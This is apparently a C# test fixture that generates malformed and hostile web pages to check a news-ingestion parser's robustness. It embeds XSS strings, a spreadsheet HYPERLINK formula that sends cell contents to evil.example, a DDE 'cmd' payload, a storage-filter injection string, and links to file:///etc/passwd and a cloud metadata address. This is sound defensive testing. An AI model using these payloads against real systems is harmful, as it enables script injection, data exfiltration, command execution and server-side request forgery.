using System.Globalization;
using System.Net;
using System.Text;
using NewsIngest.Reference;

namespace NewsIngest.IntegrationTests.Reliability;

/// <summary>Pages that hurt whoever reads them carelessly: too large, too deep, broken, or full of what other programs take for orders.</summary>
internal static class HostilePages
{
    /// <summary>What would run if any view showed it as it is.</summary>
    public const string Script = "</title></script><script>window.hacked = 1</script>\"'><img src=x onerror=\"window.hacked = 2\"><svg/onload=window.hacked=3>";

    public const string Formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Leicester rated inadequate\")";

    /// <summary>What keys, filters and paths of storage take for signs of their own.</summary>
    public const string Signs = "Leicester ' or PartitionKey ne '' or '1' eq '1 /\\#?%2F%00&+ $filter=x";

    private const int MiB = 1024 * 1024;
    private const int MutatedPages = 40;
    private const string Grade = "Leicester City Council's children's services have been rated inadequate by Ofsted.";

    private static readonly string[] Insertions =
        ["<", ">", "&", "\"", "<!--", "-->", "<![CDATA[", "</body>", "<table><tr><td>", "<p", "<script>", "&#x110000;", "&#0;", "\0", "\ufeff", "\u202e",
            "<svg><style>", "<base href=//x>", "<plaintext>", "={{", "%00"];

    /// <summary>Each page by the name of what is wrong with it.</summary>
    public static IReadOnlyDictionary<string, byte[]> All { get; } = Make();

    /// <summary>An article that nothing is wrong with.</summary>
    public static string Page(string title, string text) =>
        $"<!doctype html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>{title}</title></head><body><main><article><h1>{title}</h1><p>{text}</p><p>Leaders said that they were sorry, and that a plan would follow before the end of the spring, with a board to watch over it.</p></article></main></body></html>";

    private static Dictionary<string, byte[]> Make()
    {
        var honest = Page("Leicester rated inadequate", Grade);
        Dictionary<string, byte[]> pages = new()
        {
            ["100,000 elements"] = Utf8(Page("Many elements", Grade + Repeat("<b>x</b> ", 100_000))),
            ["10,000 levels"] = Utf8(Page("Deep", Repeat("<div>", 10_000) + Grade)),
            ["10,000 levels of lists and tables"] = Utf8(Page("Deep tables", Repeat("<table><tr><td><ul><li>", 10_000) + Grade)),
            ["5 MiB without a blank"] = Utf8(Page("No blank", Grade + new string('x', (5 * MiB) - 2_000))),
            ["1 MiB without a full stop"] = Utf8(Page("No end",
                $"{Grade} " + Repeat("Leicester City Council was rated inadequate and Devon County Council was rated good and ", MiB / 87))),
            ["invalid UTF-8"] = [.. Utf8(Page("Bad bytes", Grade)), 0xff, 0xfe, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0xf5, .. Enumerable.Repeat((byte)0x80, 5_000)],
            ["UTF-16 cut within a character"] = [0xff, 0xfe, .. Encoding.Unicode.GetBytes(Page("UTF-16 \ud83d\ude00", Grade)), 0x3d],
            ["UTF-16 with halves of characters"] = [0xfe, 0xff, .. "<html><title>".SelectMany(letter => (byte[])[0, (byte)letter]), 0xd8, 0x3d, 0xd8, 0x3d,
                0xde, 0x00, .. Encoding.BigEndianUnicode.GetBytes($"</title><body><p>{Grade}")],
            ["null characters"] = Utf8(Page("Nu\0ll", string.Join('\0', Grade.Split(' ')) + new string('\0', 100_000))),
            ["a flood of entities"] = Utf8(Page("Entities &amp;amp;amp; &#x110000; &#55357; &#0;", Grade + Repeat("&lt;&amp;lt;&#x1F600;&nosuch;&", 50_000))),
            ["a title of 1 MiB"] = Utf8(Page(Repeat("Leicester rated inadequate ", MiB / 27), Grade)),
            ["a title of 1 MiB in every place"] = Utf8($"<title>{new string('t',
                MiB)}</title><meta property=og:title content=\"{new string('o',
                    MiB)}\"><script type=\"application/ld+json\">{{\"@type\":\"NewsArticle\",\"headline\":\"{new string('h',
                        MiB)}\"}}</script><h1>{new string('1', MiB)}</h1><p>{Grade}"),
            ["signs of storage"] = Utf8(Page(Signs, $"{Grade} {Signs}")),
            ["right-to-left marks"] = Utf8(Page("\u202eetauqedani detar retseciel\u202c \u2066\u200f\u061c", $"\u202e{Grade}\u202c \u2067x")),
            ["script in every field"] = Utf8(Scripted()),
            ["a formula"] = Utf8(Page(WebUtility.HtmlEncode(Formula), $"=cmd|' /C calc'!A0 {Grade}")),
            ["every council, graded twice"] = Utf8(Page("Ofsted's year",
                string.Join(' ',
                    Councils().Select((council,
                        i) => $"<p>{council} was rated {(i % 2 == 0
                            ? "good"
                            : "inadequate")} overall by Ofsted. Leadership was outstanding. It was rated requires improvement in 2019.</p>")))),
            ["every council in a sentence without end"] = Utf8(Page("One sentence",
                string.Join(" and ", Councils().Select(council => $"{council} (caf\u00e9 {new string('\u00e9', 3_000)}) was rated good by Ofsted")))),
            ["50,000 links"] = Utf8(Page("Links", Grade + string.Concat(Enumerable.Range(0, 50_000).Select(i => $"<a href=/{i}>{i}</a>")))),
            ["an element of 100,000 attributes"] = Utf8(Page("Attributes",
                $"<p {string.Join(' ', Enumerable.Range(0, 100_000).Select(i => $"a{i}=b"))}>{Grade}")),
            ["an attribute of 1 MiB"] = Utf8(Page("Attribute", $"<p class=\"{new string('c', MiB)}\">{Grade}")),
            ["a comment without end"] = Utf8(honest + "<!-- " + new string('-', MiB)),
            ["a script without end"] = Utf8($"<script>{new string('s', MiB)}{honest}"),
            ["JSON of 10,000 levels"] = Utf8($"<script type=\"application/ld+json\">{Repeat("{\"a\":[", 10_000)}</script>{honest}"),
            ["addresses that lead astray"] = Utf8($"<base href=\"javascript:alert(1)\"><link rel=canonical href=\"https://user:pass@{new string('h',
                60_000)}/\"><meta property=og:url content=\"file:///etc/passwd\"><meta http-equiv=refresh content=\"0;url=http://169.254.169.254/\">{honest}"),
            ["dates that cannot be"] = Utf8($"<meta property=article:published_time content=\"9999-12-31T23:59:59-14:00\"><time datetime=\"0000-00-00\"></time><time datetime=\"-271821-04-20T00:00:00Z\"></time><time datetime=\"1995-01-01T00:00:00+14:00\"></time>{honest}"),
            ["nothing but blanks"] = Utf8(new string(' ', MiB)),
            ["nothing but signs less-than"] = Utf8(new string('<', MiB)),
            ["random bytes"] = Noise(200_000),
        };
        for (var seed = 0; seed < MutatedPages; seed++) pages[$"mutation {seed.ToString(CultureInfo.InvariantCulture)}"] = Mutated(honest, seed);
        return pages;
    }

    private static string Scripted()
    {
        var escaped = WebUtility.HtmlEncode(Script);
        var json = System.Text.Json.JsonSerializer.Serialize(Script);
        return $$"""
            <!doctype html><html lang="{{escaped}}"><head><title>{{escaped}}</title><meta name="author" content="{{escaped}}"><meta name="description" content="{{escaped}}"><meta property="og:site_name" content="{{escaped}}">
            <meta property="article:published_time" content="{{escaped}}"><link rel="canonical" href="javascript:window.hacked=4">
            <script type="application/ld+json">{"@type":"NewsArticle","headline":{{json}},"author":{"name":{{json}}},"datePublished":{{json}},"url":"javascript:window.hacked=5"}</script></head>
            <body><article><h1>{{escaped}}</h1><p>{{escaped}} {{Grade}}</p><p>Leicester City Council, "{{escaped}}", had a monitoring visit of Ofsted's inspectors.</p></article></body></html>
            """;
    }

    /// <summary>An honest page with some bytes changed, some cut, some doubled, and markup where none belongs.</summary>
    private static byte[] Mutated(string page, int seed)
    {
        var random = new Random(seed);
        var bytes = Utf8(page).ToList();
        for (var rounds = random.Next(3, 30); rounds > 0; rounds--)
        {
            var at = random.Next(bytes.Count);
            var length = random.Next(Math.Min(60, bytes.Count - at));
            switch (random.Next(4))
            {
                case 0:
                    bytes[at] = (byte)random.Next(256);
                    break;
                case 1:
                    bytes.RemoveRange(at, length);
                    break;
                case 2:
                    bytes.InsertRange(at, bytes.GetRange(at, length));
                    break;
                default:
                    bytes.InsertRange(at, Utf8(Insertions[random.Next(Insertions.Length)]));
                    break;
            }
        }

        return [.. bytes];
    }

    private static IEnumerable<string> Councils() =>
        CouncilRegister.Default.Councils.Where(council => council.Status == CouncilStatus.Current).Select(council => council.OfficialName);

    private static byte[] Noise(int count)
    {
        var bytes = new byte[count];
        new Random(1).NextBytes(bytes);
        return bytes;
    }

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static string Repeat(string text, int times) => new StringBuilder(text.Length * times).Insert(0, text, times).ToString();
}
